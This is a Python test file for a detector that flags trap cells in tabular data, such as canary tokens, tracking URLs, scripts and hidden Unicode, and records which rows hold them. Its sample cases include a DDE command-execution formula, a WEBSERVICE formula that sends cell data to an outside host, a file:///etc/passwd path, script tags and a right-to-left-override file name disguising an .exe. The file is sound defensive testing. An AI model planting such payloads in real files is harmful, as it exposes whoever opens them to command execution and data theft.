"""Cells that call home, act or hide are told with their rows, in every format; ordinary cells are not."""

import json
import re

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from leakverify.model.tripwire import Trap
from leakverify.sources import cell_traps
from leakverify.sources.cell_traps import TrapSearch, may_hold_any
from leakverify.sources.table import Traps

CASES = [
    (Trap.CANARY, "http://k3j.canarytokens.com/x", True),
    (Trap.CANARY, "alice@ab12.CANARYTOKENS.org", True),
    (Trap.CANARY, "c9f.oast.fun", True),
    (Trap.CANARY, "mycanarytokens.community", False),
    (Trap.CANARY, "anna@roast.fun", False),
    (Trap.TRACKING_URL, "https://a.example/open?id=4f9a8b7c6d5e4f3a", True),
    (Trap.TRACKING_URL, "https://a.example/about", False),
    (Trap.SHARE_PATH, r"\\files.example\share\x", True),
    (Trap.SHARE_PATH, "file:///etc/passwd", True),
    (Trap.SHARE_PATH, r"C:\Users\x", False),
    (Trap.DDE, "=cmd|' /C calc'!A0", True),
    (Trap.DDE, "a|b", False),
    (Trap.CALLING_FORMULA, '=WEBSERVICE("http://a.example/?"&A1)', True),
    (Trap.CALLING_FORMULA, ' +IF(1,HYPERLINK("x","y"))', True),
    (Trap.CALLING_FORMULA, "the image (left)", False),
    (Trap.SCRIPT, "<script>1</script>", True),
    (Trap.SCRIPT, "<b onclick=x>", True),
    (Trap.SCRIPT, "2 < 3, scripted", False),
    (Trap.MARKUP_LINK, '<IMG width=1 src="https://a.example/p.gif">', True),
    (Trap.MARKUP_LINK, "<img src='local.png'>", False),
    (Trap.BIDI, "abc\u202egnp.exe", True),
    (Trap.BIDI, "שלום\u200f", False),
    (Trap.ZERO_WIDTH, "Mül\u200bler", True),
    (Trap.ZERO_WIDTH, "tag\U000e0041", True),
    (Trap.ZERO_WIDTH, "می\u200cخواهم", False),
]


def met(*cells, first_row=1):
    traps = Traps()
    search = TrapSearch(traps)
    search.add(pa.table({"0": pa.array(cells, pa.large_string())}), first_row)
    search.finish()
    return {t.trap: t for t in traps.met}


@pytest.mark.parametrize(("trap", "cell", "is_one"), CASES)
def test_each_trap_is_told_from_what_looks_like_it(trap, cell, is_one):
    assert (trap in met("", None, cell, "plain")) is is_one


def test_rows_are_numbered_from_where_the_chunk_begins():
    found = met("a", "b\u202e", None, "c\u202e", first_row=101)
    assert found[Trap.BIDI].rows == (102, 104)
    assert found[Trap.BIDI].count == 2


def test_chunks_that_wait_keep_their_numbers():
    traps = Traps()
    search = TrapSearch(traps)
    for first_row, cell in ((1, "a"), (2, "b\u202e"), (3, "c\u200b"), (4, "\u202e")):
        search.add(pa.table({"0": pa.array([cell], pa.large_string())}), first_row)
    assert traps.met == ()
    search.finish()
    assert {t.trap: t.rows for t in traps.met} == {Trap.BIDI: (2, 4), Trap.ZERO_WIDTH: (3,)}


def test_at_most_a_hundred_rows_are_named_and_all_are_counted():
    found = met(*["x\u200by"] * 250)[Trap.ZERO_WIDTH]
    assert (found.count, len(found.rows)) == (250, 100)


def test_a_slice_of_a_chunk_is_looked_at_alone():
    cells = pa.array(["\u202e", "a", "b", "\u202e"], pa.large_string())
    traps = Traps()
    search = TrapSearch(traps)
    search.add(pa.table({"0": cells.slice(1, 2)}), 1)
    search.finish()
    assert traps.met == ()


@given(st.lists(st.one_of(st.none(), st.text(max_size=20)), max_size=30))
def test_the_quick_look_misses_nothing(cells):
    """Cells asked one by one say the same as cells asked together."""
    together = {trap: found.count for trap, found in met(*cells).items()}
    alone = {}
    for cell in cells:
        for trap in met(cell):
            alone[trap] = alone.get(trap, 0) + 1
    assert together == alone


@given(st.lists(st.sampled_from([cell for _t, cell, _i in CASES] + ["x", ""]), max_size=30))
def test_the_quick_look_misses_no_trap(cells):
    together = {trap: found.count for trap, found in met(*cells).items()}
    alone = {}
    for cell in cells:
        for trap in met(cell):
            alone[trap] = alone.get(trap, 0) + 1
    assert together == alone


def test_every_format_tells_them(read):
    rows = [{"a": "x", "b": "=WEBSERVICE(1)"}, {"a": "y\u202e", "b": "1"}]
    jsonl = "\n".join(map(json.dumps, rows)).encode()
    for data in (
        "a,b\nx,=WEBSERVICE(1)\ny\u202e,1\n".encode(),
        "a\tb\nx\t=WEBSERVICE(1)\ny\u202e\t1\n".encode("utf-16"),
        jsonl,
        "INSERT INTO `t` (`a`,`b`) VALUES ('x','=WEBSERVICE(1)'),('y\u202e','1');\n".encode(),
    ):
        found = {t.trap: t.rows for t in read(data).file.tripwires}
        assert found == {Trap.CALLING_FORMULA: (1,), Trap.BIDI: (2,)}


def as_python_spells(pattern):
    """RE2's `\\x{200B}` as Python's `\\U0000200B`."""
    return re.sub(r"\\x\{([0-9A-F]+)\}", lambda found: f"\\U{int(found[1], 16):08x}", pattern)


@pytest.mark.parametrize("trap", cell_traps._PATTERNS)
@given(draw=st.data())
def test_no_trap_is_without_the_characters_that_a_column_is_asked_for(trap, draw):
    hint, _pattern = cell_traps._PATTERNS[trap]
    text = draw.draw(st.from_regex(re.compile(as_python_spells(hint), re.IGNORECASE)))
    assert may_hold_any(text.encode("utf-8", "replace"))


def test_a_column_is_found_among_columns_without_any():
    traps = Traps()
    search = TrapSearch(traps)
    columns = {
        "0": ["Ann", "Bob"],
        "1": ["a.b", "<script"],
        "2": ["next", "x\u202e"],
        "3": [None] * 2,
    }
    search.add(pa.table({k: pa.array(v, pa.large_string()) for k, v in columns.items()}), 7)
    search.finish()
    assert {t.trap: t.rows for t in traps.met} == {Trap.SCRIPT: (8,), Trap.BIDI: (8,)}


def test_an_open_tag_at_the_end_of_a_cell_is_one_whatever_follows():
    assert met("<script", "x").keys() == {Trap.SCRIPT}
